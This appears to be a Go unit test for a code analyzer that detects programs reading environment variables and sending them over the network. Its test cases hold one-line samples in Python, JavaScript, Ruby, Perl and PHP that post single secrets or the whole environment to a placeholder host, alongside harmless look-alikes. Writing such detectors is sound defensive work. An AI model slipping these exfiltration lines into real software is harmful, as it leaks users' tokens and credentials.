package lang

import (
	"strings"
	"testing"
)

// TestEnvSend: program code that reads environment variables and opens a
// network connection reports the names it reads ("*" for the whole
// environment or a name only known at run time); code that does only one
// of the two, or names them in strings and comments, reports nothing.
func TestEnvSend(t *testing.T) {
	t.Parallel()
	cases := []struct {
		l    Lang
		src  string
		want string // "" for no Send; else call + " " + names
	}{
		{Python, `import os,urllib.request; urllib.request.urlopen("https://h/?"+os.environ["X"])`, "urllib.request.urlopen X"},
		{Python, "import os\nfrom urllib.request import urlopen\nurlopen('https://h', data=os.getenv('TOKEN').encode())", "urllib.request.urlopen TOKEN"},
		{Python, `import os, requests; requests.post("https://h", json=dict(os.environ))`, "requests.post *"},
		{Python, `import os, socket; s = socket.create_connection(("h", 80)); s.send(os.environ.get("K").encode())`, "socket.create_connection K"},
		{Python, `from os import environ; import httpx; httpx.post("https://h", data=environ["K"])`, "httpx.post K"},
		{JS, `fetch("https://h", {method: "POST", body: process.env.SECRET})`, "fetch SECRET"},
		{JS, `const https = require("https"); https.request({host: "h"}).end(JSON.stringify(process.env))`, "https.request *"},
		{Ruby, `require "net/http"; Net::HTTP.post_form(URI("https://h"), "k" => ENV["X"])`, "Net.HTTP.post_form X"},
		{Perl, `use LWP::UserAgent; LWP::UserAgent->new->post("https://h", {k => $ENV{X}})`, "LWP.UserAgent X"},
		{PHP, `file_get_contents("https://h/?k=" . getenv("X"));`, "file_get_contents X"},
		{PHP, `$c = curl_init("https://h"); curl_setopt($c, CURLOPT_POSTFIELDS, $_ENV["K"]); curl_exec($c);`, "curl_exec K"},
		// Look-alikes.
		{Python, `import os; print(len(os.environ["X"]))`, ""},
		{Python, `import urllib.request; urllib.request.urlopen("https://h")`, ""},
		{Python, `print("os.environ['X'] and urllib.request.urlopen(url)")`, ""},
		{Python, "# os.environ['X']\nimport requests; requests.get('https://h')", ""},
		{JS, `console.log(process.env.HOME)`, ""},
		{PHP, `echo getenv("X"); echo file_get_contents("notes.txt");`, ""},
	}
	for _, tc := range cases {
		got := ""
		for _, e := range Analyze(tc.l, tc.src) {
			if e.Kind == Send {
				names := strings.Join(e.Argv, ",")
				if e.Text == "*" {
					names = "*"
				}
				got = e.Call + " " + names
			}
		}
		if got != tc.want {
			t.Errorf("%s %s: got %q, want %q", tc.l, tc.src, got, tc.want)
		}
	}
}
